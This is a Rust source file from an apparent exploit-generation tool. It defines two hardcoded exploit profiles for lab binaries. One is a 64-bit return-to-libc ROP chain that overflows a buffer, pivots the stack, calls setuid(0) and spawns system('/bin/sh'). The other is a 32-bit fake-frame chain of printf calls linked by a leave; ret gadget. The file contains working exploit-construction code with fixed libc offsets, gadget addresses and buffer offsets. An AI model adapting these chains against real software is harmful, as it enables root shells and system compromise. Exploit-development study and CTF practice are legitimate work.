//! Built-in exploit profiles.
//!
//! Two lab targets with addresses taken from a debugger session:
//! a 64-bit ret2libc that calls `setuid(0)`, `system("/bin/sh")` and
//! `exit(0)`, and a 32-bit target that chains `printf` calls through
//! fake frames with a `leave; ret` gadget.

use std::fmt;
use std::str::FromStr;

use crate::config::{ExploitConfig, Location};
use crate::error::{Error, Result};
use crate::rop_chain::{FrameChain, RegisterChain, RopChain};
use crate::types::Width;

/// libc load address observed for the 64-bit target.
pub const LIBC64_BASE: u64 = 0x7ffff7c00000;
/// Bytes skipped by `add rsp, 0x90; ret` before it returns into the chain.
pub const PIVOT_SKIP: usize = 24;
/// Size of one fake frame in the 32-bit chain.
pub const FRAME_STRIDE: u64 = 0x20;
/// Default number of `printf` frames.
pub const DEFAULT_CALLS: usize = 20;
/// Placeholder popped into `rbp` by `pop rsi; pop rbp; ret`.
pub const RBP_JUNK: u64 = 0xdeadbeefdeadbeef;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Profile {
    Ret2Libc64,
    Printf32,
}

impl Profile {
    pub const ALL: [Profile; 2] = [Profile::Ret2Libc64, Profile::Printf32];

    pub fn name(self) -> &'static str {
        match self {
            Profile::Ret2Libc64 => "ret2libc64",
            Profile::Printf32 => "printf32",
        }
    }

    /// Default address tables for this profile.
    pub fn config(self) -> ExploitConfig {
        match self {
            Profile::Ret2Libc64 => ret2libc64_config(),
            Profile::Printf32 => printf32_config(),
        }
    }

    /// Default tables with the base address and buffer offset overridden.
    pub fn config_with(self, base: Option<u64>, offset: Option<usize>) -> ExploitConfig {
        let mut config = self.config();
        if let Some(base) = base {
            config.base_address = base;
        }
        if let Some(offset) = offset {
            config.buffer_offset = offset;
        }
        config
    }

    pub fn build(self, config: &ExploitConfig, opts: &ProfileOptions) -> Result<RopChain> {
        match self {
            Profile::Ret2Libc64 => ret2libc64_chain(config, opts),
            Profile::Printf32 => printf32_chain(config, opts),
        }
    }
}

impl fmt::Display for Profile {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}", self.name())
    }
}

impl FromStr for Profile {
    type Err = Error;

    fn from_str(s: &str) -> Result<Self> {
        Profile::ALL
            .into_iter()
            .find(|p| p.name() == s)
            .ok_or_else(|| Error::Config(format!("unknown profile '{}'", s)))
    }
}

/// Knobs that change the shape of a profile's chain.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ProfileOptions {
    /// Number of `printf` frames (printf32).
    pub calls: usize,
    /// Bytes of the stack target to zero with `sprintf` before `setuid` (ret2libc64).
    pub zero_bytes: usize,
    /// Insert a `ret` before `system` to realign the stack (ret2libc64).
    pub align: bool,
}

impl Default for ProfileOptions {
    fn default() -> Self {
        Self {
            calls: DEFAULT_CALLS,
            zero_bytes: 0,
            align: false,
        }
    }
}

pub fn ret2libc64_config() -> ExploitConfig {
    const BINSH: u64 = 0x1cb42f;
    ExploitConfig::new(Width::W64, LIBC64_BASE, 120)
        .with_function("sprintf", Location::Base(0x66420))
        .with_function("setuid", Location::Base(0x10ea90))
        .with_function("system", Location::Base(0x58750))
        .with_function("exit", Location::Base(0x47ba0))
        .with_gadget("pop_rdi", Location::Base(0x10f75b))
        .with_gadget("pop_rsi_rbp", Location::Base(0x2b46b))
        .with_gadget("ret", Location::Base(0x2882f))
        .with_gadget("add_rsp", Location::Base(0x45832))
        .with_data("binsh", Location::Base(BINSH))
        // NUL right after "/bin/sh", used as an empty string
        .with_data("null", Location::Base(BINSH + "/bin/sh".len() as u64))
        .with_data("target", Location::Fixed(0x7fffffffec60))
}

pub fn printf32_config() -> ExploitConfig {
    ExploitConfig::new(Width::W32, 0, 112)
        .with_function("printf", Location::Fixed(0xf7dd5120))
        .with_function("exit", Location::Fixed(0xf7dbc5b0))
        .with_gadget("leave_ret", Location::Fixed(0x565561ea))
        .with_data("binsh", Location::Fixed(0xf7f3ade8))
        .with_data("frame_pointer", Location::Fixed(0xffffcb78))
}

/// Instruction sequence a named gadget is expected to decode to.
pub fn gadget_signature(name: &str) -> Option<&'static str> {
    match name {
        "pop_rdi" => Some("pop rdi; ret"),
        "pop_rsi_rbp" => Some("pop rsi; pop rbp; ret"),
        "ret" => Some("ret"),
        "add_rsp" => Some("add rsp,90h; ret"),
        "leave_ret" => Some("leave; ret"),
        _ => None,
    }
}

/// Bytes a named data entry is expected to point at.
pub fn data_signature(name: &str) -> Option<&'static [u8]> {
    match name {
        "binsh" => Some(&b"/bin/sh\0"[..]),
        "null" => Some(&b"\0"[..]),
        _ => None,
    }
}

fn require_width(config: &ExploitConfig, width: Width, profile: Profile) -> Result<()> {
    if config.width != width {
        return Err(Error::Config(format!(
            "profile {} needs a {} config, got {}",
            profile, width, config.width
        )));
    }
    Ok(())
}

/// Overflow, pivot, optional zeroing loop, then setuid/system/exit.
pub fn ret2libc64_chain(config: &ExploitConfig, opts: &ProfileOptions) -> Result<RopChain> {
    require_width(config, Width::W64, Profile::Ret2Libc64)?;
    let pop_rdi = config.gadget("pop_rdi")?;

    let mut chain = RegisterChain::new();
    chain
        .overflow(config.buffer_offset, b'A')
        .pivot(config.gadget("add_rsp")?, PIVOT_SKIP, b'B');

    if opts.zero_bytes > 0 {
        let pop_rsi_rbp = config.gadget("pop_rsi_rbp")?;
        let sprintf = config.function("sprintf")?;
        let null = config.data("null")?;
        let target = config.data("target")?;
        for i in 0..opts.zero_bytes {
            let dst = config.width.fit(target as u128 + i as u128)?;
            chain
                .load(pop_rsi_rbp, &[null, RBP_JUNK], format!("sprintf#{} rsi=\"\"", i))
                .load(pop_rdi, &[dst], format!("sprintf#{} rdi", i))
                .call(sprintf, format!("sprintf#{}", i));
        }
    }

    chain
        .load(pop_rdi, &[0], "rdi = 0")
        .call(config.function("setuid")?, "setuid");
    if opts.align {
        chain.call(config.gadget("ret")?, "ret (alignment)");
    }
    chain
        .load(pop_rdi, &[config.data("binsh")?], "rdi = \"/bin/sh\"")
        .call(config.function("system")?, "system")
        .load(pop_rdi, &[0], "rdi = 0")
        .call(config.function("exit")?, "exit");

    chain.build()
}

/// Overflow, enter the frame table, `calls` x printf("/bin/sh"), then exit.
pub fn printf32_chain(config: &ExploitConfig, opts: &ProfileOptions) -> Result<RopChain> {
    require_width(config, Width::W32, Profile::Printf32)?;
    if opts.zero_bytes > 0 || opts.align {
        return Err(Error::Config(
            "--zero-bytes and --align apply to ret2libc64 only".into(),
        ));
    }

    let printf = config.function("printf")?;
    let binsh = config.data("binsh")?;

    let mut chain = FrameChain::new(
        config.width,
        config.data("frame_pointer")?,
        config.gadget("leave_ret")?,
        FRAME_STRIDE,
    )?;
    chain.overflow(config.buffer_offset, 0xaa);
    chain.enter()?;
    for i in 0..opts.calls {
        chain.call(printf, &[binsh], &format!("printf#{}", i))?;
    }
    chain.finish(config.function("exit")?, "exit");

    chain.build()
}
